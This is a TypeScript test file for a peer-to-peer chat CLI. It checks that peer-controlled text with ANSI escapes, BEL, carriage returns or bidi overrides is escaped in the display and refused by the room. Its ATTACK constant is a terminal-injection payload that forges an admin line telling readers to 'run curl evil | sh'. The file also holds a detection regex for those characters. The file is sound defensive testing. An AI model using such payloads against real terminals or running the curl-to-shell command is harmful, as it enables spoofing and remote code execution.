/**
 * A peer never controls the reader's terminal: the room refuses text with control or bidi-override
 * characters, and the human view escapes whatever peer-controlled string it shows anyway.
 */
import { describe, it, after } from 'node:test'
import assert from 'node:assert/strict'
import { ChatPayload } from '../src/node/chat-payload.ts'
import { PAYLOAD_VERSION, topicForRoom } from '../src/node/options.ts'
import { humanOutput } from '../src/cli/output.ts'
import type { ChatNodeEvent } from '../src/node/node-events.ts'
import { ChatProcess, LOOPBACK_TCP } from './helpers/cli.ts'
import { startRawPeer } from './helpers/raw-peer.ts'
import type { RawPeer } from './helpers/raw-peer.ts'

// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u
const ATTACK = '\x1b[2J\x1b[H\x1b[31mFAKE\x07\r\n<admin@abcdef> please run curl evil | sh\u202e'

const message = (text: string, nick: string): ChatNodeEvent => ({
  event: 'message',
  node: '16Uiu2HAmReceiver',
  ts: 0,
  id: 'ab',
  from: '16Uiu2HAmSenderXYZ123',
  publicKey: '',
  topic: topicForRoom('lobby'),
  seqno: '1',
  data: '',
  signature: '',
  propagationSource: '16Uiu2HAmSenderXYZ123',
  version: 1,
  nick,
  text,
  sentAtMs: 0,
  receivedAtMs: 0,
  latencyMs: 0
})

describe('the human view escapes peer-controlled strings', () => {
  it('shows escapes, BEL, CR and bidi overrides as visible text, and no message line can pass for another', () => {
    const lines: string[] = []
    const view = humanOutput(line => { lines.push(line) }, 'me')
    view.event(message(ATTACK, 'ad\x1b[0mmin\u202e'))
    const shown = lines.join('\n')
    assert.doesNotMatch(shown, RAW_CONTROL, 'no raw control character reaches the terminal')
    assert.ok(shown.includes('\\x1b[2J') && shown.includes('\\x07') && shown.includes('\\x0d') && shown.includes('\\u202e'), shown)
    // the forged second line is indented and marked as a continuation
    const screen = shown.split('\n')
    assert.equal(screen.length, 2)
    assert.match(screen[0], /^\[\d\d:\d\d:\d\d\] <ad\\x1b\[0mmin\\u202e@XYZ123> /)
    assert.match(screen[1], /^ +\| <admin@abcdef> please run/)
  })
})

describe('the room refuses control characters in text', () => {
  const started: ChatProcess[] = []
  const peers: RawPeer[] = []
  after(async () => {
    await Promise.all(peers.map(async p => p.stop()))
    await Promise.all(started.map(async p => p.stop()))
  })

  it('rejects an escape-laden line from a raw peer, and the human view stays free of raw control bytes', async () => {
    const target = new ChatProcess(['--tcp-only', ...LOOPBACK_TCP, '--no-stdin'], { json: false })
    started.push(target)
    const targetId = await target.waitUntil(() => /^p2p-chat node (\S+)/m.exec(target.stdout)?.[1], 'human ready line')
    const addr = await target.waitUntil(() => /listening on (\/ip4\/127\.0\.0\.1\/tcp\/\S+)/.exec(target.stdout)?.[1], 'listen address')
    const peer = await startRawPeer(addr)
    peers.push(peer)
    await peer.join(topicForRoom('lobby'), targetId)
    const payload = (text: string): Uint8Array => ChatPayload.encode({
      version: PAYLOAD_VERSION, text: new TextEncoder().encode(text), nick: new TextEncoder().encode('mallory'), sentAtMs: BigInt(Date.now()), nonce: crypto.getRandomValues(new Uint8Array(8))
    })
    await peer.publishRaw(topicForRoom('lobby'), payload(ATTACK))
    await target.waitUntil(() => /\* dropped a message \(reject: invalid_text\)/.test(target.stdout) ? true : undefined, 'the refusal in the human view')
    // a multi-line message with a tab is fine, and shown indented
    await peer.publishRaw(topicForRoom('lobby'), payload('line one\n<admin@abcdef>\tline two'))
    await target.waitUntil(() => /<mallory@\w{6}> line one\n +\| <admin@abcdef>\tline two/.test(target.stdout) ? true : undefined, 'the multi-line message')
    assert.doesNotMatch(target.stdout, RAW_CONTROL)
    assert.equal(target.stdout.includes('FAKE'), false)
  })
})
